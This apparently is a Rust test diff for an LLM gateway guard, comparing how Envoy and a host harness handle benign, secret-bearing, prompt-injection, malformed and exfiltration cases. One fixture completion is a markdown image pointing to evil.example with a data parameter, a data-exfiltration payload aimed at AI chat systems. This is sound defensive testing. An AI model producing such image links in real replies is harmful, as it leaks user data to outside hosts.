@@ -227,3 +227,124 @@ fn the_external_guard_in_envoy() {
         );
     }
 }
+
+/// What a client and the upstream saw, comparable across hosts.
+#[derive(Debug, PartialEq)]
+struct Seen {
+    status: u16,
+    /// `error.code` of an error body, or the completion's content.
+    answer: Value,
+    /// The JSON the upstream received, if anything reached it whole.
+    upstream: Option<Value>,
+}
+
+fn answer(body: &[u8]) -> Value {
+    let v: Value = serde_json::from_slice(body).unwrap_or(Value::Null);
+    if v.get("error").is_some() {
+        match &v["error"]["code"] {
+            Value::Null => v["error"]["message"].clone(),
+            code => code.clone(),
+        }
+    } else {
+        v["choices"][0]["message"]["content"].clone()
+    }
+}
+
+#[test]
+fn envoy_and_tollgate_host_agree_on_inspect_decisions() {
+    use tollgate_host::{Host, Module, Request, Response};
+    let chat = |text: &str| json!({"model": "m", "messages": [{"role": "user", "content": text}]});
+    // (name, request body, the completion the upstream answers with)
+    let scenarios: Vec<(&str, Vec<u8>, String)> = vec![
+        (
+            "benign",
+            chat("Summarise our Q3 report").to_string().into_bytes(),
+            "Revenue grew.".into(),
+        ),
+        (
+            "secret in prompt",
+            chat(&format!("use {AWS_KEY}")).to_string().into_bytes(),
+            "ok".into(),
+        ),
+        (
+            "injection",
+            chat(INJECTION).to_string().into_bytes(),
+            "ok".into(),
+        ),
+        (
+            "secret in completion",
+            chat("the key?").to_string().into_bytes(),
+            format!("It is {AWS_KEY}."),
+        ),
+        (
+            "exfiltration image",
+            chat("hi").to_string().into_bytes(),
+            "![x](https://evil.example/p?d=1)".into(),
+        ),
+        (
+            "malformed JSON",
+            b"{\"model\": \"m\", \"messages\": [".to_vec(),
+            "ok".into(),
+        ),
+        (
+            "wrong shape",
+            br#"{"model": "m", "messages": "hi"}"#.to_vec(),
+            "ok".into(),
+        ),
+    ];
+    let mock = MockLlm::start().unwrap();
+    let envoy = start(&mock, true);
+    let module = Module::named("inspect").unwrap();
+    let mut host = Host::builder(&module)
+        .json_configuration(&json!({"hold_headers": true}))
+        .allow_headers_stop_iteration(true)
+        .build()
+        .unwrap();
+    for (name, body, completion) in scenarios {
+        mock.clear_requests();
+        let r = request(
+            "POST",
+            &envoy.url("/v1/chat/completions"),
+            &[
+                ("content-type", "application/json"),
+                ("x-mock-content", &completion),
+            ],
+            Body::Bytes(body.clone()),
+        )
+        .unwrap();
+        let upstream = mock
+            .requests()
+            .first()
+            .and_then(|q| serde_json::from_slice(&q.body).ok());
+        let in_envoy = Seen {
+            status: r.status,
+            answer: answer(&r.body),
+            upstream,
+        };
+
+        let mut s = host.stream();
+        s.send_request(
+            Request::post("/v1/chat/completions")
+                .header("content-type", "application/json")
+                .body(body),
+        );
+        let upstream = s
+            .upstream()
+            .complete
+            .then(|| serde_json::from_slice(&s.upstream().body()).ok())
+            .flatten();
+        if s.local_reply().is_none() {
+            let reply = json!({"id": "c", "object": "chat.completion", "model": "m", "choices": [
+                {"index": 0, "message": {"role": "assistant", "content": completion}, "finish_reason": "stop"}]});
+            s.send_response(Response::ok().json(&reply));
+        }
+        let down = s.downstream();
+        let in_host = Seen {
+            status: down.status().unwrap_or(0),
+            answer: answer(&down.body()),
+            upstream,
+        };
+        assert!(!in_envoy.answer.is_null(), "{name}: {in_envoy:?}");
+        assert_eq!(in_envoy, in_host, "{name}");
+    }
+}
